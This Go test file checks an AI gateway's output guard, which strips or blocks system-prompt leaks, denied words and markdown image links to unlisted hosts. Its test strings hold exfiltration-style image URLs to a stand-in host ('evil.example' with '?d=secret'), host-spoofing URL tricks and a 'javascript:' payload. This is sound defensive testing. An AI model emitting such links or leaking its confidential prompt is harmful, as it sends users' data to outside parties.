package output_test

import (
	"strings"
	"testing"

	"github.com/postern-gateway/postern/adapters/strict"
	"github.com/postern-gateway/postern/plugin/guard"
	"github.com/postern-gateway/postern/plugin/guard/output"
)

func policy(t testing.TB, options string) guard.Policy {
	t.Helper()
	p, err := read(options)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func read(options string) (guard.Policy, error) {
	var p guard.Policy
	err := strict.Decode([]byte(options), func(o *strict.Object) { p = output.Type().Options(o, guard.Setting{On: [2]bool{false, true}}) })
	return p, err
}

const prompt = "You are the assistant of Brightwater Bank. Never mention the merger with Northfield. " +
	"Offer the gold card first, and give refunds up to 40 euros without asking a manager. Speak like a friendly neighbour."

// run feeds an answer in pieces and returns what is left of it.
func run(t testing.TB, p guard.Policy, pieces ...string) (string, guard.Verdict, []guard.Count) {
	t.Helper()
	g := p.New(guard.Caller{})
	if c := g.Open(guard.Request, guard.Part{Role: guard.System}); c != nil {
		c.Feed([]byte(prompt), true)
	}
	c := g.Open(guard.Response, guard.Part{Role: guard.Assistant})
	if c == nil {
		return strings.Join(pieces, ""), guard.Verdict{}, nil
	}
	var all, out []byte
	at := 0
	var v guard.Verdict
	for i, piece := range pieces {
		all = append(all, piece...)
		r := c.Feed([]byte(piece), i == len(pieces)-1)
		if r.Decided < at || r.Decided > len(all) {
			t.Fatalf("decided %d of %d bytes after %d", r.Decided, len(all), at)
		}
		for _, e := range r.Edits {
			if e.Start < at || e.End < e.Start || e.End > r.Decided {
				t.Fatalf("the edit of %d to %d is not between %d and %d", e.Start, e.End, at, r.Decided)
			}
			out = append(append(out, all[at:e.Start]...), e.With...)
			at = e.End
		}
		out = append(out, all[at:r.Decided]...)
		at = r.Decided
		v = r.Verdict
	}
	if at != len(all) {
		t.Fatalf("decided %d of %d bytes at the end", at, len(all))
	}
	return string(out), v, g.Counts()
}

var cases = []struct{ name, options, answer, want, code string }{
	{"nothing in it", `{"action":"strip"}`, "The gold card costs nothing in the first year.", "The gold card costs nothing in the first year.", ""},
	{"some words of the prompt", `{"action":"strip"}`, "I am the assistant of Brightwater Bank, hello.", "I am the assistant of Brightwater Bank, hello.", ""},
	{"the prompt", `{"action":"strip","system_prompt":12}`, "Sure. " + prompt + " That is all.", "Sure. [removed]. That is all.", "system_prompt_leak"},
	{"the prompt in other case and marks", `{"action":"strip","system_prompt":12}`,
		"> **Never** mention the MERGER with Northfield -- offer the gold card first and give refunds up to 40 euros", "> **[removed]", "system_prompt_leak"},
	{"a part that is too short", `{"action":"strip","system_prompt":12}`, "Speak like a friendly neighbour.", "Speak like a friendly neighbour.", ""},
	{"the prompt is not looked at", `{"action":"strip","system_prompt":0}`, prompt, prompt, ""},
	{"an image", `{}`, "Look: ![chart](https://evil.example/c.png?d=secret) nice", "Look: ![chart](#removed) nice", "link_not_allowed"},
	{"an image of a listed host", `{"hosts":["*.shop.example"]}`, "![a](https://cdn.shop.example/a.png)", "![a](https://cdn.shop.example/a.png)", ""},
	{"a host that only looks listed", `{"hosts":["shop.example"]}`, "![a](https://shop.example.evil.example/a.png)", "![a](#removed)", "link_not_allowed"},
	{"a user's name before the host", `{"hosts":["shop.example"]}`, "![a](https://shop.example@evil.example/a.png)", "![a](#removed)", "link_not_allowed"},
	{"a backslash for a slash", `{"hosts":["shop.example"]}`, `![a](https:\\evil.example\a.png)`, "![a](#removed)", "link_not_allowed"},
	{"no scheme", `{}`, "![a](//evil.example/a.png)", "![a](#removed)", "link_not_allowed"},
	{"an entity in the scheme", `{}`, "![a](&#104;ttps://evil.example/a.png)", "![a](#removed)", "link_not_allowed"},
	{"an image with a title", `{}`, `![a](<https://evil.example/a.png> "title")`, `![a](#removed> "title")`, "link_not_allowed"},
	{"an image in a link", `{}`, "[![a](https://evil.example/a.png)](https://evil.example/)", "[![a](#removed)](https://evil.example/)", "link_not_allowed"},
	{"a relative image", `{}`, "![a](/img/a.png)", "![a](/img/a.png)", ""},
	{"a reference", `{}`, "![a][1]\n\n[1]: https://evil.example/a.png\n", "![a][1]\n\n[1]:#removed\n", "link_not_allowed"},
	{"an img element", `{}`, `<IMG alt="x" SRC="https://evil.example/a.png">`, `<IMG alt="x" SRC=#removed">`, "link_not_allowed"},
	{"links may lead anywhere", `{}`, "See [here](https://a.example/) and https://b.example/x.", "See [here](https://a.example/) and https://b.example/x.", ""},
	{"links of listed hosts", `{"links":"listed","hosts":["a.example"]}`, "See [here](https://a.example/), [there](https://b.example/) and https://b.example/x, https://a.example.",
		"See [here](https://a.example/), [there](#removed) and https://[removed] https://a.example.", "link_not_allowed"},
	{"script", `{"links":"listed"}`, "[x](javascript:alert(1))", "[x](#removed))", "link_not_allowed"},
	{"denied words", `{"action":"strip","deny":["Northfield","gold fish"]}`, "NORTHFIELD has a gold fish, Northfields has none.", "[removed] has a [removed], Northfields has none.", "denied_words"},
	{"the longest of denied words", `{"action":"strip","deny":["ab","ab cd"]}`, "ab cd, ab c, ab", "[removed], [removed] c, [removed]", "denied_words"},
	{"denied words without spaces around", `{"action":"strip","deny":["密码"]}`, "这是密码吗", "这是[removed]吗", "denied_words"},
	{"denied words that are only said", `{"action":"flag","deny":["fish"]}`, "a fish", "a fish", "denied_words"},
	{"denied words that are refused", `{"deny":["fish"]}`, "a fish", "a fish", "denied_words"},
	{"all at once", `{"action":"strip","system_prompt":12,"deny":["merger"]}`, "merger " + prompt + "![a](https://evil.example/x)", "[removed] [removed].![a](#removed)", "system_prompt_leak"},
}

func TestAnswers(t *testing.T) {
	t.Parallel()
	for _, tt := range cases {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			p := policy(t, tt.options)
			got, v, _ := run(t, p, tt.answer)
			if got != tt.want {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
			if tt.name != "all at once" && v.Code != tt.code {
				t.Errorf("got the code %q, want %q", v.Code, tt.code)
			}
			for cut := range len(tt.answer) + 1 {
				if piecewise, _, _ := run(t, p, tt.answer[:cut], tt.answer[cut:]); piecewise != got {
					t.Fatalf("cut at byte %d: got %q, want %q", cut, piecewise, got)
				}
			}
			if bytewise, _, _ := run(t, p, strings.Split(tt.answer, "")...); bytewise != got {
				t.Fatalf("character by character: got %q, want %q", bytewise, got)
			}
		})
	}
}

func TestBlocksBeforeTheLeakIsOut(t *testing.T) {
	t.Parallel()
	p := policy(t, `{"system_prompt":12}`)
	g := p.New(guard.Caller{})
	g.Open(guard.Request, guard.Part{Role: guard.System}).Feed([]byte(prompt), true)
	c := g.Open(guard.Response, guard.Part{Role: guard.Assistant})
	const before = "Here it comes, as you have asked for it: "
	answer := before + prompt
	for i := range answer {
		r := c.Feed([]byte(answer[i:i+1]), false)
		if r.Verdict.Action == guard.Block {
			return
		}
		if r.Decided > len(before) {
			t.Fatalf("%q is let out", answer[:r.Decided])
		}
	}
	t.Error("got no verdict, want block")
}

func TestShortPromptsAreNotGuarded(t *testing.T) {
	t.Parallel()
	g := policy(t, `{"images":"any"}`).New(guard.Caller{})
	g.Open(guard.Request, guard.Part{Role: guard.System}).Feed([]byte("You are a helpful assistant."), true)
	if c := g.Open(guard.Response, guard.Part{}); c != nil {
		t.Error("got a check, want none: such words are in many answers")
	}
}

func TestOptions(t *testing.T) {
	t.Parallel()
	for options, want := range map[string]string{
		`{"system_prompt":3}`:         "system_prompt: want 0, or at least 8: fewer words in a row are in many answers",
		`{"hosts":["https://a.b/"]}`:  "hosts[0]: want a host name without scheme, port and path",
		`{"deny":["a",""]}`:           "deny[1]: must not be empty",
		`{"images":"some"}`:           `images: want one of "listed" and "any", got "some"`,
		`{"denied":["a"]}`:            `denied: unknown key`,
		`{"action":"mask","deny":[]}`: `action: want one of "block", "strip" and "flag", got "mask"`,
	} {
		if _, err := read(options); err == nil || err.Error() != want {
			t.Errorf("%s: got %v, want %s", options, err, want)
		}
	}
}

// FuzzCuts has every answer come out the same however it is cut.
func FuzzCuts(f *testing.F) {
	for i, tt := range cases {
		f.Add(tt.answer, i, len(tt.answer)/2)
	}
	p := policy(f, `{"action":"strip","system_prompt":8,"links":"listed","hosts":["a.example"],"deny":["ab","ab cd","密码","é"]}`)
	f.Fuzz(func(t *testing.T, answer string, a, b int) {
		a, b = min(max(a, 0), len(answer)), min(max(b, 0), len(answer))
		a, b = min(a, b), max(a, b)
		want, _, _ := run(t, p, answer)
		if got, _, _ := run(t, p, answer[:a], answer[a:b], answer[b:]); got != want {
			t.Errorf("cut at %d and %d: got %q, want %q", a, b, got, want)
		}
	})
}

func BenchmarkAnswer(b *testing.B) {
	p := policy(b, `{"hosts":["a.example"],"deny":["merger","gold fish"]}`)
	text := []byte(strings.Repeat("The harbour was quiet that morning, and the fishermen mended their nets [see](https://a.example/nets). ", 200))
	for _, tt := range []struct {
		name  string
		piece int
	}{{"whole", len(text)}, {"by 4 bytes", 4}} {
		b.Run(tt.name, func(b *testing.B) {
			b.SetBytes(int64(len(text)))
			b.ReportAllocs()
			for b.Loop() {
				g := p.New(guard.Caller{})
				g.Open(guard.Request, guard.Part{Role: guard.System}).Feed([]byte(prompt), true)
				c := g.Open(guard.Response, guard.Part{})
				for i := 0; i < len(text); i += tt.piece {
					c.Feed(text[i:min(i+tt.piece, len(text))], i+tt.piece >= len(text))
				}
			}
		})
	}
}
